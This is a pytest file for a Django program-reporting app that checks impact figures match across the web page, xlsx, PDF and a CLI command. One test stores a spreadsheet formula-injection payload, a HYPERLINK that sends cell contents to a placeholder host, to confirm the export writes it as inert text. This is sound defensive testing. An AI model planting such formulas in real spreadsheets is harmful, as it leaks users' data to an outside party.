"""The numbers agree between the report page, the xlsx, the PDF and `sentra program-impact`."""

from __future__ import annotations

import io
import json
import re
import subprocess
import tempfile
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from sentra.programs.models import Program
from sentra.programs.templatetags.programs import measure
from tests.programs.test_impact import crafted  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
OUTCOMES = ("workers", "production_value", "survival")
LABELS = {"workers": "Tenaga kerja", "production_value": "Nilai produksi", "survival": "Bertahan"}
KEYS = (
    "recipients_before",
    "recipients_after",
    "comparison_before",
    "comparison_after",
    "difference_in_differences",
)


def _cli() -> dict[str, Any]:
    out = StringIO()
    call_command("program_impact", year=2017, format="json", stdout=out)
    (item,) = json.loads(out.getvalue())
    return dict(item)


def _cells(html: str, code: str, outcome: str) -> list[str]:
    row = re.search(rf'<tr data-program="{code}" data-outcome="{outcome}">(.*?)</tr>', html, re.S)
    assert row is not None, outcome
    return [
        re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row[1], re.S)
    ]


def test_page_xlsx_pdf_and_command_show_the_same_numbers(
    crafted: Program,  # noqa: F811
    alice_admin: Any,
) -> None:
    cli = _cli()
    client = Client()
    client.force_login(alice_admin)

    html = client.get("/program/laporan/?year=2017").content.decode()
    for key in OUTCOMES:
        cells = _cells(html, cli["code"], key)
        assert cells[2:4] == [measure(cli["recipients"]), measure(cli["comparison_units"])]
        assert cells[4:9] == [measure(cli["outcomes"][key][k]) for k in KEYS]
    assert "100.000.000" in html and "80.000.000" in html  # budget and realisation

    response = client.get("/program/laporan.xlsx?year=2017")
    book = load_workbook(
        io.BytesIO(
            b"".join(response.streaming_content if response.streaming else [response.content])
        )
    )
    rows = [r for r in book["Dampak"].iter_rows(min_row=2, values_only=True)]
    assert len(rows) == 3
    for row, key in zip(rows, OUTCOMES, strict=True):
        assert row[0] == cli["code"]
        assert (row[5], row[6]) == (cli["recipients"], cli["comparison_units"])
        assert list(row[7:12]) == [cli["outcomes"][key][k] for k in KEYS]
    program_rows = list(book["Program"].iter_rows(min_row=3, values_only=True))
    assert program_rows[0][4:6] == (100_000_000, 80_000_000)

    pdf = client.get("/program/laporan.pdf?year=2017").content
    assert pdf.startswith(b"%PDF")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "r.pdf"
        path.write_bytes(pdf)
        text = subprocess.run(  # noqa: S603 — a fixed command on our own file
            ["pdftotext", "-layout", str(path), "-"],  # noqa: S607 — pdftotext from PATH
            capture_output=True,
            text=True,
            check=True,
        ).stdout
    for key in OUTCOMES:
        line = next(ln for ln in text.splitlines() if cli["code"] in ln and LABELS[key] in ln)
        numbers = [measure(cli["outcomes"][key][k]) for k in KEYS]
        expected = [measure(cli["recipients"]), measure(cli["comparison_units"]), *numbers]
        assert re.search(r"\s+".join(re.escape(n) for n in expected), line), (line, expected)
    assert "100.000.000" in text and "80.000.000" in text


def test_reach_tables_count_units_by_kecamatan_commodity_and_owner_sex(
    crafted: Program,  # noqa: F811
    alice_admin: Any,
    bayu_officer_bayah: Any,
) -> None:
    from sentra.programs.reports import program_report

    report = program_report(user=alice_admin, year=2017)
    assert report.by_kecamatan == [("Rangkasbitung", 4)]
    assert report.by_commodity == [("Batik Lebak", 4)]
    assert report.by_sex == [("Laki-laki", 4), ("Perempuan", 0)]
    assert report.budget == 100_000_000 and report.percent == 80.0
    # An officer of another kecamatan sees the budget but no units of Rangkasbitung.
    scoped = program_report(user=bayu_officer_bayah, year=2017)
    assert scoped.by_kecamatan == [] and scoped.scoped


def test_the_program_report_xlsx_writes_no_live_formulas(alice_admin: Any) -> None:
    from tests.programs.conftest import make_program

    program = make_program("PLT-2017-09")
    Program.objects.filter(pk=program.pk).update(
        name='=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    )
    client = Client()
    client.force_login(alice_admin)
    response = client.get("/program/laporan.xlsx?year=2017")
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = [c.value for row in book["Program"].iter_rows() for c in row]
    assert '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")' in texts
